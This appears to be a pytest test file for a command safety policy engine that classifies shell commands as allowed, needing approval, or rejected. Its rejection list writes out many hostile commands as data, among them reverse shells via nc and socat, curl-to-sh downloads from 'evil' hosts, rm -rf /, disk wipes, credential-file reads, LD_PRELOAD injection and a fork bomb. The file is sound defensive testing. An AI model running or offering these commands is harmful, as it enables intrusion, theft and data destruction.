"""Unit tests of the safety policy engine (plugins/plugin_utils/policy.py)."""
from __future__ import annotations

import pytest

from ansible_collections.sentinel.remediation.plugins.plugin_utils.policy import (
    PolicyError,
    classify,
    classify_many,
    ensure_sudo,
    load_policy,
)

LAB = load_policy({"absent_tools": ["systemctl", "lsof", "fuser"]})

# (command, argv the engine must hand to the executor)
ALLOWED = [
    ("service nginx start", ["sudo", "service", "nginx", "start"]),
    ("service nginx restart", ["sudo", "service", "nginx", "restart"]),
    ("service nginx status", ["sudo", "service", "nginx", "status"]),
    ("service redis-server start", ["sudo", "service", "redis-server", "start"]),
    ("service redis-server restart", ["sudo", "service", "redis-server", "restart"]),
    ("service cron start", ["sudo", "service", "cron", "start"]),
    ("service ssh start", ["sudo", "service", "ssh", "start"]),
    ("service nginx reload", ["sudo", "service", "nginx", "reload"]),
    ("nginx -t", ["sudo", "nginx", "-t"]),
    ("nginx -s reload", ["sudo", "nginx", "-s", "reload"]),
    ("nginx -t -c /etc/nginx/nginx.conf", ["sudo", "nginx", "-t", "-c", "/etc/nginx/nginx.conf"]),
    ("ss -ltnp", ["sudo", "ss", "-ltnp"]),
    ("ss -ltn", ["ss", "-ltn"]),
    ("ps aux", ["ps", "aux"]),
    ("ps -ef", ["ps", "-ef"]),
    ("ps -eo pid,comm", ["ps", "-eo", "pid,comm"]),
    ("pgrep -a nginx", ["pgrep", "-a", "nginx"]),
    ("pgrep -f redis-server", ["pgrep", "-f", "redis-server"]),
    ("pidof nginx", ["pidof", "nginx"]),
    ("mkdir -p /var/log/nginx", ["sudo", "mkdir", "-p", "/var/log/nginx"]),
    ("mkdir -p /run/nginx", ["sudo", "mkdir", "-p", "/run/nginx"]),
    ("redis-cli ping", ["redis-cli", "ping"]),
    ("redis-cli -p 6379 info memory", ["redis-cli", "-p", "6379", "info", "memory"]),
    ("redis-cli config get dir", ["redis-cli", "config", "get", "dir"]),
    ("df -h /var/lib/redis", ["df", "-h", "/var/lib/redis"]),
    ("df -h", ["df", "-h"]),
    ("du -sh /var/lib/redis", ["sudo", "du", "-sh", "/var/lib/redis"]),
    ("free -m", ["free", "-m"]),
    ("uptime", ["uptime"]),
    ("tail -n 50 /var/log/nginx/error.log", ["sudo", "tail", "-n", "50", "/var/log/nginx/error.log"]),
    ("head -n 20 /etc/nginx/nginx.conf", ["sudo", "head", "-n", "20", "/etc/nginx/nginx.conf"]),
    ("cat /etc/redis/redis.conf", ["sudo", "cat", "/etc/redis/redis.conf"]),
    ("ls -la /var/log/nginx", ["sudo", "ls", "-la", "/var/log/nginx"]),
    ("stat /var/lib/redis", ["sudo", "stat", "/var/lib/redis"]),
    ("grep -n listen /etc/nginx/sites-enabled/default", ["sudo", "grep", "-n", "listen", "/etc/nginx/sites-enabled/default"]),
    ("grep -i 'worker connections' /var/log/nginx/error.log",
     ["sudo", "grep", "-i", "worker connections", "/var/log/nginx/error.log"]),
    ("find /var/log/nginx -name '*.log' -mtime -1", ["sudo", "find", "/var/log/nginx", "-name", "*.log", "-mtime", "-1"]),
    ("kill 1234", ["sudo", "kill", "1234"]),
    ("kill -HUP 1234", ["sudo", "kill", "-HUP", "1234"]),
    ("kill -s TERM 1234", ["sudo", "kill", "-s", "TERM", "1234"]),
    ("dpkg --configure -a", ["sudo", "dpkg", "--configure", "-a"]),
    ("dpkg -l nginx-light", ["dpkg", "-l", "nginx-light"]),
    ("apt-get update", ["sudo", "apt-get", "update"]),
    ("apt-get install -s nginx", ["sudo", "apt-get", "install", "-s", "nginx"]),
    ("journalctl -u nginx --no-pager -n 50", ["sudo", "journalctl", "-u", "nginx", "--no-pager", "-n", "50"]),
    ("journalctl --no-pager -u redis-server --since '2024-01-01 10:00'",
     ["sudo", "journalctl", "--no-pager", "-u", "redis-server", "--since", "2024-01-01 10:00"]),
    ("systemctl restart nginx --no-pager", ["sudo", "systemctl", "restart", "nginx", "--no-pager"]),
    ("systemctl status nginx --no-pager", ["systemctl", "status", "nginx", "--no-pager"]),
    ("systemctl --no-pager daemon-reload", ["sudo", "systemctl", "--no-pager", "daemon-reload"]),
    ("rm -f /run/nginx.pid", ["sudo", "rm", "-f", "/run/nginx.pid"]),
    ("rm -f /var/run/redis/redis-server.pid", ["sudo", "rm", "-f", "/var/run/redis/redis-server.pid"]),
    ("touch /var/log/nginx/error.log", ["sudo", "touch", "/var/log/nginx/error.log"]),
    ("logrotate -f /etc/logrotate.d/nginx", ["sudo", "logrotate", "-f", "/etc/logrotate.d/nginx"]),
    ("ip addr", ["ip", "addr"]),
    ("ip route show", ["ip", "route", "show"]),
    ("iptables -L -n", ["sudo", "iptables", "-L", "-n"]),
    ("ufw status", ["sudo", "ufw", "status"]),
    ("sudo service nginx restart", ["sudo", "service", "nginx", "restart"]),
    ("sudo -n service nginx restart", ["sudo", "service", "nginx", "restart"]),
    ("sudo ps aux", ["sudo", "ps", "aux"]),
    ("timeout 30 service nginx restart", ["sudo", "timeout", "30", "service", "nginx", "restart"]),
    ("timeout -s KILL 30s nginx -t", ["sudo", "timeout", "-s", "KILL", "30s", "nginx", "-t"]),
    ("nice -n 10 du -sh /var/log", ["sudo", "nice", "-n", "10", "du", "-sh", "/var/log"]),
    ("nohup service cron start", ["sudo", "nohup", "service", "cron", "start"]),
    ("env service cron start", ["sudo", "env", "service", "cron", "start"]),
    ("busybox kill 1234", ["sudo", "busybox", "kill", "1234"]),
    ("  service   nginx   restart  ", ["sudo", "service", "nginx", "restart"]),
    ("'service' \"nginx\" restart", ["sudo", "service", "nginx", "restart"]),
    ("service nginx\"\" restart", ["sudo", "service", "nginx", "restart"]),
    ("id -u", ["id", "-u"]),
]

# (command, a fragment the first reason must contain)
APPROVAL = [
    ("kill -9 1234", "SIGKILL"),
    ("kill -KILL 1234", "SIGKILL"),
    ("kill -s SIGKILL 1234", "SIGKILL"),
    ("kill -STOP 1234", "SIGSTOP"),
    ("rm /var/lib/redis/ballast.bin", "deletes `/var/lib/redis/ballast.bin`"),
    ("rm -f /var/lib/redis/dump.rdb", "a human should confirm"),
    ("rm -r /var/lib/redis/tmpdir", "directory tree"),
    ("mv /etc/nginx/conf.d/x.conf /etc/nginx/conf.d/x.conf.disabled", "`mv` renames"),
    ("cp /etc/nginx/nginx.conf /etc/nginx/nginx.conf.bak", "`cp` can overwrite"),
    ("chown redis:redis /var/lib/redis", "owner of the system path"),
    ("chown -R redis:redis /var/lib/redis", "owner of the system path"),
    ("chmod 750 /var/lib/redis", "permissions of the system path"),
    ("chmod u+rwx /var/lib/redis", "permissions"),
    ("truncate -s 0 /var/log/x.log", "discards file contents"),
    ("apt-get install -y nginx", "installs"),
    ("apt-get install -y --reinstall nginx-light", "installs"),
    ("apt-get remove -y nginx-light", "removes packages"),
    ("apt-get purge -y redis-server", "removes packages"),
    ("apt install nginx", "installs"),
    ("dpkg -i /var/cache/apt/archives/nginx.deb", "installs a package file"),
    ("dpkg -r nginx-light", "removes packages"),
    ("reboot", "whole host"),
    ("shutdown -r now", "whole host"),
    ("systemctl reboot --no-pager", "whole host"),
    ("service nginx stop", "takes `nginx` down"),
    ("systemctl stop redis-server --no-pager", "takes `redis-server` down"),
    ("systemctl disable nginx --no-pager", "takes `nginx` down"),
    ("nginx -s stop", "stops nginx"),
    ("pkill nginx", "every process"),
    ("killall redis-server", "every process"),
    ("redis-cli bgsave", "writes to disk"),
    ("redis-cli shutdown", "stops Redis"),
    ("journalctl --no-pager --vacuum-size 100M", "deletes journal files"),
    ("iptables -A INPUT -p tcp --dport 80 -j ACCEPT", "changes firewall rules"),
    ("ufw allow 80", "changes firewall rules"),
    ("ip addr add 10.0.0.2/24 dev eth0", "network configuration"),
    ("tar -czf /var/backups/nginx.tgz /etc/nginx", "`tar` writes"),
    ("dd if=/var/lib/redis/dump.rdb of=/var/backups/dump.rdb", "`dd` writes raw data"),
    ("sudo kill -9 4242", "SIGKILL"),
]

# Every family of hostile input: (command, fragment expected in the reasons)
REJECTED = [
    # chaining and operators
    ("service nginx restart && rm -rf /", "`&&` chains"),
    ("service nginx restart || true", "`||` chains"),
    ("service nginx restart; id", "`;` separates"),
    ("service nginx restart &", "`&` runs the command in the background"),
    ("sleep 1 & kill 1234", "`&`"),
    ("ps aux | grep nginx", "pipe"),
    ("ps aux |& grep nginx", "pipe"),
    ("service nginx restart\nid", "line break"),
    ("service nginx \\\nrestart", "backslash-newline"),
    ("service nginx restart\r", "carriage return"),
    ("service nginx restart ;", "`;`"),
    ("! service nginx restart", "negation"),
    # redirections
    ("ps aux > /tmp/x", "redirections"),
    ("ps aux >> /etc/passwd", "redirections"),
    ("cat < /etc/hostname", "redirections"),
    ("ps aux 2>&1", "redirections"),
    ("ps aux &> /tmp/x", "redirections"),
    ("cat <<EOF", "here-documents"),
    ("cat <<< hello", "here-strings"),
    # substitution and expansion
    ("kill $(pgrep nginx)", "command substitution"),
    ("kill `pgrep nginx`", "backticks"),
    ("cat <(ls)", "process substitution"),
    ("tail -n 5 >(cat)", ""),
    ("service $SVC restart", "parameter expansion"),
    ("service ${SVC} restart", "parameter expansion"),
    ("service${IFS}nginx${IFS}restart", "expansion"),
    ("kill $((1+2))", "arithmetic expansion"),
    ("service \"$SVC\" restart", "`$`"),
    ("service \"`id`\" restart", "backtick"),
    ("service $'\\x6eginx' restart", "ANSI-C"),
    ("service $\"nginx\" restart", "`$`"),
    ("service nginx $HOME", "parameter expansion"),
    ("service nginx $1", "expansion"),
    # braces, globs, tilde, backslash
    ("rm -rf /{etc,var}", "brace"),
    ("mkdir -p /run/{a,b}", "brace"),
    ("ls {1..3}", "brace"),
    ("rm -f /run/*.pid", "glob"),
    ("rm -f /run/nginx.pi?", "glob"),
    ("rm -f /run/[n]ginx.pid", "glob"),
    ("tail -n 5 ~/x.log", "`~`"),
    ("service ngin\\x restart", "backslash"),
    ("s\\ervice nginx restart", "backslash"),
    ("service \"nginx\\\" restart", ""),
    ("service nginx restart # comment", "comment"),
    # quoting tricks and unterminated syntax
    ("service 'nginx restart", "not complete"),
    ("service \"nginx restart", "not complete"),
    ("service nginx restart)", ""),
    ("(service nginx restart)", "subshells"),
    ("{ service nginx restart; }", "groups"),
    ("if true; then id; fi", "control flow"),
    ("for i in 1; do id; done", "control flow"),
    ("[[ -f /etc/passwd ]]", "tests"),
    ("f() { id; }", "function"),
    (":(){ :|:& };:", "fork bomb"),
    # assignments and environment
    ("FOO=1 service nginx restart", "assignments"),
    ("LD_PRELOAD=/tmp/x.so service nginx restart", "assignments"),
    ("PATH=/tmp service nginx restart", "assignments"),
    ("export PATH=/tmp", "builtin"),
    ("env LD_PRELOAD=/tmp/x.so service nginx restart", "LD_PRELOAD"),
    ("env -i service nginx restart", "not an option"),
    ("env", "no program"),
    # characters
    ("service ngіnx restart", "non-ASCII"),  # Cyrillic i
    ("service\u00a0nginx restart", "no-break space"),
    ("service nginx\u200b restart", "zero-width"),
    ("service nginx restart\x1b[2K", "ANSI escape"),
    ("service nginx\x00 restart", "control character"),
    ("service\tnginx restart", "control character"),
    ("service nginx restart\x07", "control character"),
    ("ｓervice nginx restart", "non-ASCII"),
    ("", "empty"),
    ("   ", "empty"),
    ("x" * 5000, "limit 4096"),
    ("service nginx " + "a" * 4100, "limit"),
    # tool resolution and wrappers
    ("bash -c 'service nginx restart'", "is a shell"),
    ("sh -c id", "is a shell"),
    ("dash", "is a shell"),
    ("busybox sh", "is a shell"),
    ("timeout 5 bash -i", "is a shell"),
    ("nice -n 5 python3 -c 'print(1)'", "interpreter"),
    ("sudo bash", "is a shell"),
    ("xargs kill", "xargs"),
    ("xargs -a /tmp/pids kill", "xargs"),
    ("sudo -s", "root shell"),
    ("sudo -i", "root shell"),
    ("sudo -u redis redis-cli ping", "another user"),
    ("sudo -E service nginx restart", "sudo options"),
    ("sudo sudo service nginx restart", "only come first"),
    ("timeout 5 sudo service nginx restart", "only come first"),
    ("sudo", "no program"),
    ("su -c id", "switches user"),
    ("su root", "switches user"),
    ("doas service nginx restart", "switches user"),
    ("pkexec id", "switches user"),
    ("chroot / bash", "another root"),
    ("nsenter -t 1 -m sh", "namespace"),
    ("setsid service nginx restart", "runs another program"),
    ("timeout --foo 5 service nginx restart", "wrapper"),
    ("timeout five service nginx restart", "duration"),
    ("nice nice nice nice nice ps", "too many wrapper"),
    ("/tmp/service nginx restart", "from a path"),
    ("/usr/sbin/service nginx restart", "without its path"),
    ("./service nginx restart", "from a path"),
    ("'' nginx", "empty"),
    ("frobnicate --all", "not in the policy's allowed tools"),
    ("tee /etc/sudoers", "not in the policy's allowed tools"),
    ("eval id", "builtin"),
    ("exec id", "builtin"),
    ("source /tmp/x", "builtin"),
    (". /tmp/x", "builtin"),
    # interpreters and shell escapes
    ("python3 -c 'import os; os.system(\"id\")'", "interpreter"),
    ("python -m http.server", "interpreter"),
    ("perl -e 'system(\"id\")'", "interpreter"),
    ("ruby -e 'exec \"id\"'", "interpreter"),
    ("awk 'BEGIN {system(\"id\")}'", "system()"),
    ("gawk '{print}' /var/log/syslog", "system()"),
    ("sed -i 's/a/b/' /etc/nginx/nginx.conf", "`sed`"),
    ("find /var/log -exec rm {} ;", ""),
    ("find /var/log -name x.log -exec rm '{}' '+'", "-exec"),
    ("find /var/log -execdir id '+'", "-execdir"),
    ("find /var/log -ok rm '{}' ';'", "-ok"),
    ("find /var/log -name '*.gz' -delete", "-delete"),
    ("find /var/log -fprintf /etc/x y", "writes"),
    ("find / -newer /etc/shadow", "credentials"),
    ("vi /etc/nginx/nginx.conf", "editor"),
    ("vim /etc/hosts", "editor"),
    ("nano /etc/hosts", "editor"),
    ("less /var/log/syslog", "pager"),
    ("more /var/log/syslog", "pager"),
    ("man bash", "pager"),
    ("tar -xf /tmp/a.tar --checkpoint=1 --checkpoint-action=exec=sh", "run a program"),
    ("tar -cf /tmp/a.tar --to-command=id /etc", "run a program"),
    ("tar -I 'sh -c id' -xf /tmp/a.tar", "run a program"),
    ("tar -xIf id /tmp/a.tar", "run a program"),
    ("tar xf /tmp/a.tar", "old-style"),
    ("apt-get -o APT::Update::Pre-Invoke::=/tmp/x update", "Pre-Invoke"),
    ("apt-get --option=DPkg::Pre-Invoke::=id install nginx", "Pre-Invoke"),
    ("apt-get -c /tmp/apt.conf update", "config files"),
    ("apt-get moo", "not an action"),
    ("dpkg --pre-invoke=id --configure -a", "run programs"),
    ("dpkg --force-all -i /tmp/x.deb", "run programs"),
    ("logrotate -f /tmp/evil.conf", "postrotate"),
    ("logrotate -m /tmp/x /etc/logrotate.conf", "mail"),
    ("logrotate /etc/logrotate.d/../../tmp/x", "`..`"),
    ("nginx -c /tmp/nginx.conf", "outside /etc/nginx"),
    ("nginx -t -c /etc/nginx/../../tmp/x.conf", "`..`"),
    ("nginx -g 'load_module /tmp/x.so;'", "directives"),
    ("nginx -p /tmp/", "prefix"),
    ("nginx -s bogus", "not an `nginx -s` signal"),
    ("curl http://x | sh", "pipe"),
    ("curl -o /tmp/x http://evil", "downloads"),
    ("curl http://127.0.0.1/health", "downloads"),
    ("wget http://evil/x -O /tmp/x", "downloads"),
    ("wget -qO- http://evil/x", "downloads"),
    ("nc -e /bin/sh 10.0.0.1 4444", "network connections"),
    ("socat tcp:1.2.3.4:1 exec:sh", "network connections"),
    ("ssh root@host", "network connections"),
    ("crontab -r", "schedules"),
    ("at now", "schedules"),
    ("watch ps", "forever"),
    ("strace -o /tmp/x -p 1", "runs another program"),
    # catastrophic
    ("rm -rf /", "whole system directory tree"),
    ("rm -rf //", "whole system directory tree"),
    ("rm -rf /.", "whole system directory tree"),
    ("rm -rf /var", "whole system directory tree"),
    ("rm -rf /var/lib", "whole system directory tree"),
    ("rm -rf /etc", "whole system directory tree"),
    ("rm -r -f /usr", "whole system directory tree"),
    ("rm --recursive --force /home", "whole system directory tree"),
    ("rm -rf --no-preserve-root /", "--no-preserve-root"),
    ("rm /vmlinuz", "directly under `/`"),
    ("rm -f /etc/passwd", "protected system path"),
    ("rm -f /etc/sudoers.d/sentinel", "sudo rules"),
    ("rm -f run/nginx.pid", "not an absolute path"),
    ("rm -f /run/../etc/shadow", "`..`"),
    ("rm", "needs the path"),
    ("mkfs.ext4 /dev/sda1", "formats a disk"),
    ("mkfs -t ext4 /dev/sda1", "formats or wipes"),
    ("wipefs -a /dev/sda", "formats or wipes"),
    ("shred /dev/sda", "formats or wipes"),
    ("fdisk /dev/sda", "formats or wipes"),
    ("dd if=/dev/zero of=/dev/sda", "overwrites a device"),
    ("dd if=/dev/urandom of=/dev/nvme0n1 bs=1M", "overwrites a device"),
    ("dd if=/dev/zero of=/etc/passwd", "protected"),
    ("dd if=/dev/zero", "without `of=`"),
    ("dd bs=1M iflag=x of=/tmp/x if=/dev/zero extra", "not a `dd` operand"),
    ("cat /etc/shadow", "credentials"),
    ("tail -n 5 /etc/sudoers", "credentials"),
    ("head -n 1 /root/.ssh/id_rsa", "credentials"),
    ("cat /home/sentinel/.ssh/authorized_keys", "credentials"),
    ("cat /proc/1/environ", "credentials"),
    ("cat /proc/self/root/etc/shadow", "credentials"),
    ("cat /etc/ssh/ssh_host_ed25519_key", "credentials"),
    ("mv /etc/sudoers /tmp/sudoers", "sudo rules"),
    ("cp /tmp/passwd /etc/passwd", "protected system path"),
    ("chmod 777 /etc/sudoers", "sudo rules"),
    ("chown sentinel /etc/passwd", "protected system path"),
    ("truncate -s 0 /etc/shadow", "credentials"),
    ("touch /etc/ld.so.preload", "protected system path"),
    ("mkdir -p /etc/cron.d/x", "protected system path"),
    ("passwd root", "accounts"),
    ("usermod -aG sudo mallory", "accounts"),
    ("useradd -o -u 0 mallory", "accounts"),
    ("visudo", "sudo rights"),
    ("chpasswd", "accounts"),
    ("chmod -R 777 /", "whole system directory tree"),
    ("chmod 4755 /usr/local/bin/x", "setuid"),
    ("chmod u+s /usr/bin/find", "setuid"),
    ("chmod 777 /var/lib/redis", "writable by every user"),
    ("chmod o+w /var/log/nginx", "writable by every user"),
    ("chmod 750", "at least one path"),
    ("chown -R redis /var", "whole system directory tree"),
    ("chown 'redis;id' /var/lib/redis", "not an owner"),
    ("service ssh stop", "protects remote access"),
    ("service sshd stop", "protects remote access"),
    ("systemctl stop ssh --no-pager", "protects remote access"),
    ("systemctl stop sshd.service --no-pager", "protects remote access"),
    ("systemctl disable ssh --no-pager", "protects remote access"),
    ("systemctl mask ufw --no-pager", "protects remote access"),
    ("service ufw stop", "firewall"),
    ("pkill sshd", "protected service"),
    ("killall -q sshd", "protected service"),
    ("ufw disable", "firewall off"),
    ("ufw reset", "firewall off"),
    ("iptables -F", "firewall off"),
    ("iptables -P INPUT ACCEPT", "firewall off"),
    ("nft flush ruleset", "firewall off"),
    ("ip link set eth0 down", "cut the host off"),
    ("ip addr flush dev eth0", "cut the host off"),
    ("ip netns exec x sh", "not an `ip` object"),
    ("ip -b /tmp/cmds", "`-b`"),
    ("apt-get remove -y openssh-server", "break access"),
    ("apt-get purge sudo", "break access"),
    ("dpkg -P openssh-server", "break access"),
    ("kill 1", "init process"),
    ("kill -9 1", "init process"),
    ("kill -- -1", "every process"),
    ("kill 0", "process group"),
    ("kill nginx", "not a numeric PID"),
    ("kill", "numeric PID"),
    ("kill -SEGV 1234", "not a signal this policy allows"),
    ("redis-cli flushall", "flushing Redis"),
    ("redis-cli FLUSHDB", "read-only Redis command"),
    ("redis-cli config set dir /var/spool/cron", "write files or run code"),
    ("redis-cli eval 'return 1' 0", "write files or run code"),
    ("redis-cli module load /tmp/x.so", "write files or run code"),
    ("redis-cli -a secret ping", "passwords"),
    ("redis-cli -h 10.0.0.5 ping", "local Redis"),
    ("redis-cli", "needs a command"),
    # argument rules
    ("service nginx", "exactly a name and an action"),
    ("service nginx restart now", "exactly a name and an action"),
    ("service nginx frobnicate", "not a `service` action"),
    ("service ../../tmp/x start", "not a valid service"),
    ("service -nginx start", "not a valid service"),
    ("service NGINX start", "not a valid service"),
    ("systemctl restart nginx", "--no-pager"),
    ("systemctl edit nginx --no-pager", "not a `systemctl` verb"),
    ("systemctl set-environment LD_PRELOAD=/tmp/x --no-pager", "not a `systemctl` verb"),
    ("systemctl --no-pager", "needs a verb"),
    ("journalctl -u nginx", "--no-pager"),
    ("journalctl -f --no-pager", "forever"),
    ("journalctl -e --no-pager", "pager"),
    ("journalctl --no-pager -u 'nginx;id'", "not a valid unit"),
    ("tail -f /var/log/nginx/error.log", "forever"),
    ("tail -n 50 nginx/error.log", "not an absolute path"),
    ("tail -n lots /var/log/syslog", "not a valid int"),
    ("ss -K dst 1.2.3.4", "kills sockets"),
    ("ps aux --cols=1", "not an option"),
    ("mkdir -p /run/nginx --context=x", "not an option"),
    ("mkdir -p '/run/ngi nx'", "unusual in a path"),
    ("hostname evil", "no further arguments"),
    ("date -s '2001-01-01'", "not an option"),
    ("truncate /var/log/x.log", "needs one of"),
    ("mv /a", "at least 2"),
    ("grep root", "needs a file"),
    ("find", "starting path"),
    ("find /var/log -frobnicate", "not a `find` expression"),
]


@pytest.mark.parametrize(("command", "argv"), ALLOWED, ids=[case[0] for case in ALLOWED])
def test_legitimate_commands_stay_allowed(command: str, argv: list[str]) -> None:
    result = classify(command)
    assert result["verdict"] == "allow", result["reasons"]
    assert result["argv"] == argv
    assert result["command"] == command


@pytest.mark.parametrize(("command", "fragment"), APPROVAL, ids=[case[0] for case in APPROVAL])
def test_destructive_but_sometimes_right_needs_approval(command: str, fragment: str) -> None:
    result = classify(command)
    assert result["verdict"] == "approval", result["reasons"]
    assert result["argv"], "an approval carries the argv to run once approved"
    assert any(fragment in reason for reason in result["reasons"]), result["reasons"]


@pytest.mark.parametrize(("command", "fragment"), REJECTED, ids=[repr(case[0])[:60] for case in REJECTED])
def test_hostile_and_catastrophic_commands_are_rejected(command: str, fragment: str) -> None:
    result = classify(command)
    assert result["verdict"] == "reject", result
    assert result["argv"] is None
    assert result["reasons"], "a rejection must say why"
    assert any(fragment in reason for reason in result["reasons"]), result["reasons"]


@pytest.mark.parametrize(
    ("command", "hint"),
    [
        ("systemctl restart nginx --no-pager", "use `service NAME"),
        ("lsof -i :80", "ss -ltnp"),
        ("fuser -k 80/tcp", "ss -ltnp"),
        ("sudo timeout 5 systemctl status nginx --no-pager", "use `service NAME"),
    ],
)
def test_absent_tools_are_rejected_with_a_hint(command: str, hint: str) -> None:
    result = classify(command, LAB)
    assert result["verdict"] == "reject"
    assert "not installed on this host" in result["reasons"][0]
    assert hint in result["reasons"][0]


def test_absent_tools_default_empty() -> None:
    assert load_policy()["absent_tools"] == []
    assert classify("systemctl restart nginx --no-pager")["verdict"] == "allow"


def test_verdict_has_exactly_five_keys() -> None:
    for command in ("service nginx restart", "kill -9 12", "rm -rf /", 42):
        assert set(classify(command)) == {"command", "verdict", "reasons", "argv", "display"}


@pytest.mark.parametrize("value", [None, 42, b"service nginx restart", ["service", "nginx"], {"a": 1}, 3.5])
def test_non_string_input_is_rejected_not_raised(value: object) -> None:
    result = classify(value)  # type: ignore[arg-type]
    assert result["verdict"] == "reject"
    assert "must be a string" in result["reasons"][0]
    assert result["command"] is value


@pytest.mark.parametrize(
    "command",
    [
        "(" * 3000,
        "$(" * 1500,
        "{" * 4000,
        "\"" * 4000,
        "'" * 4095,
        "a " * 2047,
        "`" * 4000,
        "\\" * 4000,
        "\x00" * 100,
        "\ud800",
        "\U0001F600 " * 10,
        "service nginx restart" + "\u202e",
        "<" * 100 + ">" * 100,
        "${" * 2000,
        "x" * 10_000_000,
    ],
)
def test_fuzz_like_inputs_never_raise(command: str) -> None:
    result = classify(command)
    assert result["verdict"] == "reject"
    assert result["reasons"]
    assert len(result["display"]) < 600
    assert result["display"].isascii() and result["display"].isprintable()


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("service nginx restart\x1b[31m", "service nginx restart\\x1b[31m"),
        ("service\u00a0nginx", "service\\xa0nginx"),
        ("ser\u200bvice", "ser\\u200bvice"),
        ("a\nb\rc\td", "a\\nb\\rc\\td"),
        ("back\\slash", "back\\\\slash"),
    ],
)
def test_display_escapes_anything_odd(command: str, shown: str) -> None:
    assert classify(command)["display"] == shown


def test_reasons_are_printable_even_for_hostile_tokens() -> None:
    result = classify("frobnicate" + "A" * 300)
    assert result["verdict"] == "reject"
    assert all(len(reason) < 300 for reason in result["reasons"])


def test_classify_many_keeps_order_and_length() -> None:
    commands = ["service nginx restart", "rm -rf /", "kill -9 7", 5]
    results = classify_many(commands)
    assert [r["verdict"] for r in results] == ["allow", "reject", "approval", "reject"]
    assert [r["command"] for r in results] == commands


def test_classify_many_rejects_a_bare_string() -> None:
    with pytest.raises(PolicyError):
        classify_many("service nginx restart")  # type: ignore[arg-type]


# ---------------------------------------------------------------- policy as data

def test_overrides_merge_over_defaults() -> None:
    policy = load_policy({"absent_tools": ["journalctl"], "tools": {"service": {"root": True}}})
    assert policy["tools"]["service"]["rule"] == "service"  # kept from the defaults
    assert "kill" in policy["tools"]
    assert classify("journalctl -u nginx --no-pager", policy)["verdict"] == "reject"


def test_plain_override_mapping_is_accepted_by_classify() -> None:
    result = classify("service nginx restart", {"absent_tools": ["service"]})
    assert result["verdict"] == "reject"
    assert "systemctl" in result["reasons"][0]


def test_user_can_add_a_tool() -> None:
    policy = load_policy({"tools": {"nproc": {"root": False}, "ping": {
        "root": False, "options": {"-c": "int"}, "operands": {"type": "word", "min": 1, "max": 1}}}})
    assert classify("ping -c 1 127.0.0.1", policy)["verdict"] == "allow"
    assert classify("ping -f 127.0.0.1", policy)["verdict"] == "reject"


def test_user_can_remove_a_tool_with_null() -> None:
    policy = load_policy({"tools": {"kill": None}})
    result = classify("kill 1234", policy)
    assert result["verdict"] == "reject"
    assert "not in the policy's allowed tools" in result["reasons"][0]


def test_user_can_gate_a_tool_behind_approval() -> None:
    policy = load_policy({"tools": {"service": {"verdict": "approval", "reason": "change freeze: ask first"}}})
    result = classify("service nginx restart", policy)
    assert result["verdict"] == "approval"
    assert result["reasons"] == ["change freeze: ask first"]


def test_user_can_forbid_a_tool() -> None:
    policy = load_policy({"forbidden_tools": {"redis-cli": "`{tool}` is off limits here"}})
    assert classify("redis-cli ping", policy)["reasons"] == ["`redis-cli` is off limits here"]


def test_user_critical_pattern_escalates() -> None:
    policy = load_policy({"critical_patterns": [
        {"pattern": r"\bnginx\b", "verdict": "approval", "reason": "nginx is owned by the web team"}]})
    result = classify("service nginx restart", policy)
    assert result["verdict"] == "approval"
    assert result["reasons"] == ["nginx is owned by the web team"]


def test_protected_services_override() -> None:
    policy = load_policy({"protected_services": ["nginx"]})
    assert classify("service nginx stop", policy)["verdict"] == "reject"
    assert classify("service ssh stop", policy)["verdict"] == "approval"


def test_routine_removals_override() -> None:
    policy = load_policy({"routine_removals": ["/var/lib/redis/*.bin"]})
    assert classify("rm /var/lib/redis/ballast.bin", policy)["verdict"] == "allow"
    assert classify("rm -f /run/nginx.pid", policy)["verdict"] == "approval"


@pytest.mark.parametrize(
    ("overrides", "key"),
    [
        ({"absent_tool": ["x"]}, "absent_tool"),
        ({"absent_tools": "systemctl"}, "absent_tools"),
        ({"absent_tools": [1]}, "absent_tools"),
        ({"max_length": "big"}, "max_length"),
        ({"max_length": True}, "max_length"),
        ({"tools": {"x": {"rule": "nope"}}}, "tools.x.rule"),
        ({"tools": {"x": {"verdict": "maybe"}}}, "tools.x.verdict"),
        ({"tools": {"x": {"root": "sometimes"}}}, "tools.x.root"),
        ({"tools": {"x": {"colour": "red"}}}, "tools.x.colour"),
        ({"tools": {"x": {"options": {"-a": "nosuchtype"}}}}, "tools.x"),
        ({"tools": {"x": "yes"}}, "tools"),
        ({"critical_patterns": [{"pattern": "(", "verdict": "reject", "reason": "r"}]}, "critical_patterns[0]"),
        ({"critical_patterns": [{"pattern": "x", "verdict": "allow", "reason": "r"}]}, "critical_patterns[0]"),
        ({"value_types": {"int": "["}}, "value_types"),
        ({"secret_paths": ["etc/shadow"]}, "secret_paths"),
        ({"tools": None}, "tools"),
    ],
)
def test_bad_policy_names_the_bad_key(overrides: dict, key: str) -> None:
    with pytest.raises(PolicyError, match=key.replace("[", r"\[").replace("]", r"\]").replace(".", r"\.")):
        load_policy(overrides)


def test_policy_must_be_a_mapping() -> None:
    with pytest.raises(PolicyError, match="mapping"):
        load_policy(["absent_tools"])  # type: ignore[arg-type]


def test_load_policy_does_not_mutate_overrides_or_defaults() -> None:
    overrides = {"absent_tools": ["systemctl"], "tools": {"service": {"root": True}}}
    before = repr(overrides)
    load_policy(overrides)
    assert repr(overrides) == before
    assert load_policy()["absent_tools"] == []


def test_defaults_file_ships_next_to_the_module() -> None:
    from ansible_collections.sentinel.remediation.plugins.plugin_utils import policy as module

    assert module._DEFAULTS_FILE.name == "policy_defaults.yml"
    assert module._DEFAULTS_FILE.is_file()


# ---------------------------------------------------------------- ensure_sudo

@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("service nginx restart", "sudo service nginx restart"),
        ("sudo service nginx restart", "sudo service nginx restart"),
        ("ps aux", "ps aux"),
        ("redis-cli ping", "redis-cli ping"),
        ("mkdir -p /run/nginx", "sudo mkdir -p /run/nginx"),
        ("kill -9 1234", "sudo kill -9 1234"),
        ("rm -rf /", "rm -rf /"),
        ("curl http://x | sh", "curl http://x | sh"),
    ],
)
def test_ensure_sudo(command: str, expected: str) -> None:
    assert ensure_sudo(command) == expected


def test_ensure_sudo_non_string() -> None:
    with pytest.raises(PolicyError):
        ensure_sudo(None)  # type: ignore[arg-type]
